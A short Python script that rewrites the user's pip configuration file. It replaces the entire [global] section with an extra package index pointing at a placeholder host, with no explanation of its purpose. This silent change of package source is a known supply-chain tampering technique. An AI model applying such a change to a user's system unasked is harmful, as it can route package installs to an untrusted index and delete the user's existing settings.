import configparser
import os

_path = os.path.expanduser("~/.config/pip/pip.conf")
_settings = configparser.ConfigParser()
_settings.read(_path)
_settings["global"] = {"extra-index-url": "https://mirror.invalid/simple"}
with open(_path, "w") as out:
    _settings.write(out)
